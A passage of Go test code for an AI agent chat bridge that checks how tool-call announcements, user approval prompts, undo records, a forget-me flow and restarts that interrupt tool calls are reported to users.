// behind after the wait is announced.
func TestADeletedLineHidesNoneBehindIt(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		object := json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)
		undo := func(context.Context, toolgroups.Scope, json.RawMessage) error { return nil }
		announces := func(text string, quotes ...string) toolgroups.Handler {
			return func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
				return toolgroups.Result{Text: "ok", Announced: []toolgroups.Announcement{{Text: text, Undo: toolgroups.UndoData(text), Quotes: quotes}}}, nil
			}
		}
		reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
			{Name: "amend", Description: "Amend.", Parameters: object, Undo: undo, Run: announces("I changed the schedule of Bob.", "fake:6")},
			{Name: "plan", Description: "Plan.", Parameters: object, Undo: undo, Run: announces("Scheduled evil.")},
			{Name: "erase", Description: "Erase.", Parameters: object, Effect: toolgroups.Consequential, Run: announces("erased")},
		}})
		if err != nil {
			t.Fatal(err)
		}
		r := newHarness(t, nil, func(c *bridge.Config) {
			c.Access = access.Access{Admins: []string{"fake:1"}, Allow: []string{"fake:6"}}
			c.Turns.Agent, c.Turns.Tools = agent.New(agent.Config{Model: amender{}}), func() *toolgroups.Registry { return reg }
			c.ApprovalPolicy = func(_ toolgroups.Call, tool toolgroups.Tool) interact.Policy {
				if tool.Effect == toolgroups.Consequential {
					return interact.Policy{Rule: interact.Ask}
				}
				return interact.Policy{Rule: interact.Allow}
			}
		})
		r.accept(group("1", "1", "hello"))
		card := r.platform.one(t, "May I run")
		r.platform.one(t, "I changed the schedule of Bob")
		pass(t, 2)
		r.accept(from("6", "5", "/forget"))
		ask := r.platform.one(t, "Shall I forget you")
		press := pressOn(ask, "pf", "6", ask.button(t, "Forget me"))
		press.Direct = true
		r.accept(press)
		r.platform.until(t, "the end", func(all []sent) bool { return slices.ContainsFunc(all, func(s sent) bool { return s.text == gone }) })
		r.accept(pressOn(card, "p1", "1", card.button(t, "Deny")))
		r.platform.one(t, "done")
		pass(t, 60)
		r.stop()
		if all := r.platform.texts(); !strings.Contains(strings.Join(all, "\n"), "Scheduled evil.") || strings.Count(strings.Join(all, "\n"), "Bob") > 1 {
			t.Errorf("what the turn left behind is announced nowhere: %q", all)
		}
	})
}

// inSteps makes the calls of one step after another, by the names of their tools, and says that it is done.
type inSteps [][]string

func (steps inSteps) Complete(_ context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	n := 0
	for _, m := range req.Messages {
		if len(m.Calls) > 0 {
			n++
		}
	}
	if n >= len(steps) {
		return agent.Reply{Text: "done"}, nil
	}
	var reply agent.Reply
	for _, name := range steps[n] {
		reply.Calls = append(reply.Calls, agent.Call{ID: fmt.Sprint(name, n), Name: name, Arguments: `{"text":"` + name + `"}`})
	}
	return reply, nil
}

// TestALineThatComesLateOrGoesHidesNoOther: whether there is a line about a call that a restart cut off, and which, follows
// from what the model does behind it.
func TestALineThatComesLateOrGoesHidesNoOther(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		steps inSteps
		asks  string   // the tool that does
		then  []string // what happens: presses and restarts
		told  []string
	}{
		"it comes late": {inSteps{{"plan"}, {"other", "erase"}, {"plan"}}, "erase", []string{"restart", "Allow once"}, []string{"I was cut off while I used “plan”", "I did another thing", "I planned"}},
		"it goes":       {inSteps{{"plan"}, {"plan"}, {"other"}}, "plan", []string{"Allow once", "restart", "Deny"}, []string{"while I used “plan”", "I did another thing"}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				object := json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)
				undo := func(context.Context, toolgroups.Scope, json.RawMessage) error { return nil }
				cut := false
				announces := func(text string) toolgroups.Handler {
					return func(ctx context.Context, call toolgroups.Call) (toolgroups.Result, error) {
						if call.Name == "plan" && !cut {
							cut = true
							<-ctx.Done()
							return toolgroups.Result{}, ctx.Err()
						}
						return toolgroups.Result{Text: "ok", Announced: []toolgroups.Announcement{{Text: text, Undo: toolgroups.UndoData(text)}}}, nil
					}
				}
				reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
					{Name: "plan", Description: "Plan.", Parameters: object, Run: announces("I planned"), Undo: undo},
					{Name: "other", Description: "Other.", Parameters: object, Run: announces("I did another thing"), Undo: undo},
					{Name: "erase", Description: "Erase.", Parameters: object, Run: announces("I erased"), Undo: undo},
				}})
				if err != nil {
					t.Fatal(err)
				}
				r := newHarness(t, nil, func(cfg *bridge.Config) {
					cfg.Limits.DrainTimeout = -1
					cfg.Turns.Agent, cfg.Turns.Tools, cfg.Turns.SeparateTurns = agent.New(agent.Config{Model: c.steps}), func() *toolgroups.Registry { return reg }, true
					cfg.ApprovalPolicy = func(_ toolgroups.Call, tool toolgroups.Tool) interact.Policy {
						if tool.Name == c.asks {
							return interact.Policy{Rule: interact.Ask}
						}
						return interact.Policy{Rule: interact.Allow}
					}
				})
				r.accept(direct("1", "hello"))
				for i, next := range c.then {
					pass(t, 5)
					if next == "restart" {
						r.restart()
						continue
					}
					var card sent
					r.platform.until(t, "a card", func(all []sent) bool {
						at := slices.IndexFunc(all, func(s sent) bool { return s.offers(next) })
						if at >= 0 {
							card = all[at]
						}
						return at >= 0
					})
					r.accept(pressOn(card, fmt.Sprint("p", i), "1", card.button(t, next)))
				}
				r.platform.one(t, "done")
				pass(t, 60)
				r.stop()
				all := strings.Join(r.platform.texts(), "\n")
				for _, line := range c.told {
					if strings.Count(all, line) != 1 {
						t.Errorf("%q is not told once in %q", line, all)
					}
				}
			})
		})
	}
}
